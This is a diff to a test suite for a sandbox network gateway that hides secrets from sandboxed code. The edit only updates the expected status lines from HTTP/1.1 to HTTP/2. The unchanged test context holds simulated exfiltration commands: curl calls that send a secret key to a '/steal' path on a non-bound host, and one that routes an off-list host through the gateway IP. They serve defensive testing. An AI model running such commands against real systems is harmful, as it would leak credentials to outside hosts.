@@ -297,7 +297,7 @@ async def test_secret_round_trip(world: World, make: Any, tier: str) -> None:
     # The upstream got the real value...
     assert [h.get("authorization") for h in headers_of(world.api)] == [f"Bearer {REAL}"]
     # ...and echoed it back in a header and the body, which the sandbox sees redacted.
-    assert r.stdout.startswith("HTTP/1.1 200")
+    assert r.stdout.startswith("HTTP/2 200")  # curl negotiates h2 through the gateway
     assert REAL not in r.stdout + r.stderr
     assert response_headers(r.stdout)["x-echo-authorization"] == f"Bearer {placeholder}"
     assert r.stdout.count(placeholder) >= 2
@@ -360,7 +360,7 @@ async def test_secret_exfiltration_blocked(world: World, make: Any, tier: str) -
     # Another allowed host, not bound to the secret: 403 from the gateway, nothing sent.
     r = await box.sh(f'curl -sS -m 20 -D - https://{OTHER}/steal -H "X-Key: $KEY"')
     assert r.exit_code == 0, r.stderr
-    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout
+    assert r.stdout.startswith("HTTP/2 403"), r.stdout
     assert "x-sealbox-blocked" in r.stdout.lower()
     assert world.other.received == []
     kinds = [e["kind"] for e in world.engine.egress_log(box.id)]
@@ -375,7 +375,7 @@ async def test_secret_exfiltration_blocked(world: World, make: Any, tier: str) -
     gateway_ip = (await box.ok(DEFAULT_GATEWAY)).strip()
     r = await box.sh(f'curl -sS -m 20 -D - --resolve {OFF_LIST}:443:{gateway_ip} '
                      f'https://{OFF_LIST}/ -H "X-Key: $KEY"')
-    assert r.exit_code != 0 or r.stdout.startswith("HTTP/1.1 403"), r.stdout
+    assert r.exit_code != 0 or r.stdout.startswith("HTTP/2 403"), r.stdout
     assert world.offlist.received == []
     assert REAL not in r.stdout + r.stderr
 
